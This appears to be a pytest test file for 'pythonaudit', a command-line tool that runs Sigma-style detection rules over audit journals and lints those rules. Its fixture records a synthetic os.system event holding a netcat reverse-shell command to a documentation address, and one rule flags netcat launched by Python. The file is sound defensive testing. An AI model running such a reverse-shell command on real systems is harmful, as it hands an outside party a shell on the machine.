"""`pythonaudit detect` and `pythonaudit rules`: on a journal, an archive and both; what they print, and how they end."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from pythonaudit.cli import main
from tests.commands import run, show
from tests.journal_writer import BEGIN_NS, SegmentWriter
from tests.stores import KINDS, save

CODE = ("/srv/app/site-packages/evil/core.py", 7, "load")
PAIR = """
title: Netcat \x1b[31m Started
logsource: {product: linux, category: process_creation}
detection: {selection: {Image|endswith: '/nc', ParentImage|contains: python}, condition: selection}
level: critical
tags: [attack.t1059]
---
title: Failed Login
name: failed
logsource: {product: python, service: audit}
detection: {selection: {template: 'login failed: user=*'}, condition: selection}
---
title: Many Failed Logins
correlation: {type: event_count, rules: [failed], group-by: [fields.user], timespan: 10s, condition: {gte: 3}}
level: medium
""".replace("\x1b", "\\e").replace("title: Netcat \\e[31m Started", 'title: "Netcat \\e[31m Started"')


def store(directory: Path, kind: str) -> Path:
    writers = []
    for number in range(4):
        writer = SegmentWriter(process=bytes([number + 1]) * 16, pid=100 + number, begin_ns=BEGIN_NS + number)
        thread = writer.thread()
        for _ in range(3):
            thread.event("login failed: user=eve", source=3)
            writer.ticks += 1_000_000_000
        thread.event("os.system", [{"$bytes": "nc -e /bin/sh 192.0.2.1 4444"}], stack=[CODE])
        thread.event("open", ["/srv/a", "r", 0], stack=[CODE])
        writers.append(writer)
    return save(directory, writers, kind)


@pytest.fixture(scope="module")
def rules(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("pack")
    (place / "pair.yml").write_text(PAIR)
    return place


def lines(capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]


@pytest.mark.parametrize("kind", KINDS)
def test_alerts(tmp_path: Path, rules: Path, kind: str, capsys: pytest.CaptureFixture[str]) -> None:
    place = store(tmp_path, kind)
    words = ["--dir", str(place), "detect", "--rules", str(rules), "--format", "jsonl"]
    assert main(words) == 0
    alerts = lines(capsys)
    netcat = [alert for alert in alerts if alert["level"] == "critical"]
    logins = [alert for alert in alerts if alert["level"] == "medium"]
    # Four processes that nobody's parent is: four trees.
    assert len(netcat) == len(logins) == 4
    assert {alert["count"] for alert in netcat} == {1}
    assert all(alert["techniques"] == ["T1059"] for alert in netcat)
    first = netcat[0]["events"][0]
    assert (first["event"], first["fields"]) == ("os.system", {"command": "nc -e /bin/sh 192.0.2.1 4444"})
    assert first["stack"] == [{"file": CODE[0], "line": CODE[1], "function": CODE[2]}]
    assert (
        sum(alert["count"] for alert in logins) == 10
    )  # of twelve logins of one user, the third and all after it
    assert main([*words, "--fail", "critical", "--process", "01"]) == 1
    assert main([*words, "--fail", "critical", "--event", "login*"]) == 0
    assert main([*words, "--level", "critical", "--fail", "low", "--event", "open"]) == 0


def test_it_says_what_it_did_not_do(tmp_path: Path, rules: Path, capsys: pytest.CaptureFixture[str]) -> None:
    place = store(tmp_path, "journal")
    own = place / "rules"
    own.mkdir()
    words = ["--dir", str(place), "detect", "--format", "jsonl"]
    assert main([*words, "--event", "nothing"]) == 0
    told = capsys.readouterr()
    assert (told.out, told.err.count("\n")) == ("", 1)
    assert "no alert in" in told.err
    (own / "good.yml").write_text(PAIR)
    (own / "bad.yml").write_text("title: x\nlogsource: {product: windows}\ndetection: {a: {b: c}, condition: a}\n")
    assert main(words) == 3  # the good ones are looked for all the same
    told = capsys.readouterr()
    assert {json.loads(line)["level"] for line in told.out.splitlines()} == {"critical", "high", "medium"}
    assert f"{own}/bad.yml:2: no events of the log source product: windows" in told.err
    assert "1 rule could not be used" in told.err
    (own / "bad.yml").unlink()
    (own / "exceptions.yml").write_text(
        "exceptions:\n- {rule: failed, condition: {fields.user: eve}, reason: a test, expires: 2020-01-01}\n"
        "- {rule: failed, condition: {fields.user: eve}, reason: a robot}\n"
    )
    assert main(words) == 0
    told = capsys.readouterr()
    assert {json.loads(line)["level"] for line in told.out.splitlines()} == {"critical", "high"}
    assert "this exception ended on 2020-01-01, and is not applied" in told.err
    assert "12 matches excepted: a robot" in told.err
    (own / "exceptions.yml").write_text("exceptions:\n- {rule: nobody, condition: {event: a}, reason: x}\n")
    assert main(words) == 3
    told = capsys.readouterr()
    assert (told.out, "no rule 'nobody' is there" in told.err) == ("", True)


def test_there_is_nothing_to_look_into(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--dir", str(tmp_path / "none"), "detect"]) == 3
    assert main(["--dir", str(tmp_path), "detect", "--rules", str(tmp_path / "none")]) == 3
    assert main(["--dir", str(tmp_path), "detect", "--level", "hi"]) == 2
    assert capsys.readouterr().err.count("\n") == 3


def test_on_a_terminal(tmp_path: Path, rules: Path) -> None:
    place = store(tmp_path, "journal")
    shown = show(place, "detect", "--rules", str(rules), columns=200)
    assert shown.status == 0
    assert "Netcat" in shown.text
    assert "\x1b[31m Started" not in shown.text
    assert "\\x1b[31m" in shown.text


def test_in_a_process_of_its_own(tmp_path: Path, rules: Path) -> None:
    """As users run it; what it finds, an alert each, is in the trail of readings."""
    place = store(tmp_path, "journal")
    done = run(place, "detect", "--rules", str(rules), "--fail", "high")
    assert (done.returncode, len(done.stdout.splitlines())) == (1, 9)
    read = run(place, "log", "--event", "pythonaudit.read.end", "--format", "jsonl")
    fields = json.loads(read.stdout.splitlines()[0])["fields"]
    assert fields == {"command": "detect", "alerts": 8, "status": 1}


def test_list_show_convert_coverage(tmp_path: Path, rules: Path, capsys: pytest.CaptureFixture[str]) -> None:
    verb = ["--dir", str(tmp_path), "rules"]
    more = ["--rules", str(rules)]
    assert main([*verb, "list", *more, "--format", "jsonl"]) == 0
    listed = lines(capsys)
    assert [(one["title"].split()[0], one["level"]) for one in listed] == [
        ("Netcat", "critical"), ("Failed", "medium"), ("Many", "medium"),
    ]  # fmt: skip
    assert main([*verb, "list", *more]) == 0
    assert "\\x1b[31m" in capsys.readouterr().out
    assert main([*verb, "show", "failed", *more]) == 0
    assert "# SELECT * FROM events WHERE" in capsys.readouterr().out
    assert main([*verb, "convert", "failed", *more]) == 0
    sql = capsys.readouterr().out
    assert (
        main(
            [
                "--dir",
                str(store(tmp_path, "journal")),
                "sql",
                f"SELECT count(*) AS n FROM ({sql})",
                "--format",
                "jsonl",
            ]
        )
        == 0
    )
    assert lines(capsys) == [{"n": 12}]
    assert main([*verb, "coverage", *more]) == 0
    (layer,) = lines(capsys)
    assert layer["techniques"][0] | {"comment": ""} == {
        "techniqueID": "T1059",
        "score": 1,
        "comment": "",
        "enabled": True,
    }
    assert main([*verb, "show", "faild", *more]) == 3
    assert "did you mean 'failed'?" in capsys.readouterr().err
    assert main([*verb, "convert", "failed", *more, "--to", "nothing"]) == 3
    assert "no backend 'nothing' of pySigma is installed" in capsys.readouterr().err
    assert main([*verb, "show"]) == 2


def test_test_says_why(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rule = tmp_path / "rule.yml"
    rule.write_text(
        "title: R\nlogsource: {product: python, service: audit}\n"
        "detection: {one: {event: open, path|startswith: /etc/}, two: [word], condition: one and not two}\n"
    )
    sample = tmp_path / "sample.jsonl"
    sample.write_text('{"event":"open","args":["/srv/a","r",0]}\n')
    words = ["--dir", str(tmp_path), "rules", "test", str(rule)]
    assert main([*words, "--sample", str(sample)]) == 1
    said = capsys.readouterr().out
    assert "no  condition: one and not two" in said
    assert 'yes event: open   <- "open"' in said
    assert 'no  path|startswith: /etc/   <- "/srv/a"' in said
    sample.write_text('{"event":"open","args":["/etc/a","r",0]}\n')
    assert main([*words, "--sample", str(sample)]) == 0
    assert main(words) == 3
    place = tmp_path / "samples" / "rule"
    place.mkdir(parents=True)
    (place / "match.jsonl").write_text(sample.read_text())
    (place / "nomatch.jsonl").write_text(sample.read_text())
    assert main(words) == 1  # the near miss is one that matches
    sample.write_text("{")
    assert main([*words, "--sample", str(sample)]) == 2


GOOD = """title: Passwd Read By Python Code
id: 7a1f4a53-6a8e-4f0f-9d2e-3a4c0f6f1b11
status: test
description: A file with the names of users is opened.
references:
  - https://attack.mitre.org/techniques/T1087/001/
author: Alice
date: 2026-11-29
tags:
  - attack.discovery
  - attack.t1087.001
logsource:
  product: python
  service: audit
detection:
  selection:
    event: open
    path: /etc/passwd
  condition: selection
falsepositives:
  - Programs that look up users
level: low
"""
#: A rule that is as it should be, with one defect each: what is replaced by what, and what is said of it.
DEFECTS = [
    ("title: Passwd Read", "title: passwd read", "1: the title is not in title case: 'passwd'"),
    ("Python Code", "Python Code " * 12, "1: the title has more than 110 characters"),
    ("Python Code", "Python Code.", "1: the title ends with a full stop"),
    ("4f0f-9d2e", "1f0f-9d2e", "2: the id is no UUID of version 4, in lower case"),
    ("id: 7a1f4a53-6a8e-4f0f-9d2e-3a4c0f6f1b11", "id: x", "2: the id is no UUID"),
    ("status: test", "status: good", "3: the status is none of"),
    ("description: A file with the names of users is opened.", "description: Short.", "4: the description has less than 30"),
    ("  - https://attack.mitre.org/techniques/T1087/001/", "  - a book", "5: 'a book' is no address"),
    ("author: Alice", "author: ''", "7: no author is named"),
    ("date: 2026-11-29", "date: 29.11.2026", "8: '29.11.2026' is no date of the form"),
    ("date: 2026-11-29", "date: 2026-11-29\nmodified: 2026-11-28", "9: it was modified before its date"),
    ("attack.t1087.001", "attack.T1087.1", "9: 'attack.T1087.1' is no tag"),
    ("  - attack.t1087.001\n", "", "9: no technique of ATT&CK is among the tags"),
    ("attack.discovery", "attack.t1087.001", "9: a tag is there twice"),
    ("  service: audit", "  service: audit\n  category: file", "12: the log source is not product: python, service: audit"),
    ("  - Programs that look up users", "  - None", "'None' tells no false positive"),
    ("level: low", "level: awful", "22: the level is none of"),
    ("level: low", "", "1: 'level' is missing"),
    ("level: low", "level: low\nowner: bob", "23: 'owner' is no key of a rule"),
    ("author: Alice\ndate: 2026-11-29", "date: 2026-11-29\nauthor: Alice", "7: 'date' stands where 'author' should"),
    ("/etc/passwd", "/etc/group", "1: its true sample gives no alert"),
    ("    path: /etc/passwd\n", "", "1: its near miss gives an alert"),
]  # fmt: skip


def test_lint_names_each_defect(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    samples = tmp_path / "samples"
    name = "python_audit_passwd_read"
    (samples / name).mkdir(parents=True)
    (samples / name / "match.jsonl").write_text('{"event":"open","args":["/etc/passwd","r",0]}\n')
    (samples / name / "nomatch.jsonl").write_text('{"event":"open","args":["/etc/hosts","r",0]}\n')
    rule = tmp_path / f"{name}.yml"
    words = ["--dir", str(tmp_path), "rules", "lint", str(rule), "--samples", str(samples)]
    rule.write_text(GOOD)
    assert main(words) == 0
    assert capsys.readouterr().out == ""
    for old, new, said in DEFECTS:
        assert GOOD.count(old) >= 1, old
        rule.write_text(GOOD.replace(old, new))
        assert main(words) == 1, new
        told = capsys.readouterr().out
        assert (f"{rule}:{said}" if said[0].isdigit() else said) in told, (new, told)


def test_lint_of_files_together(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    place = tmp_path / "rules"
    place.mkdir()
    (place / "python_audit_one.yml").write_text(GOOD)
    (place / "Two.yml").write_text(GOOD)
    assert main(["--dir", str(tmp_path), "rules", "lint"]) == 1
    told = capsys.readouterr().out
    assert f"{place}/Two.yml:1: the file's name is not of the form" in told
    assert f"the id or name is that of {place}/" in told
    assert f"no sample {place}/samples/" in told
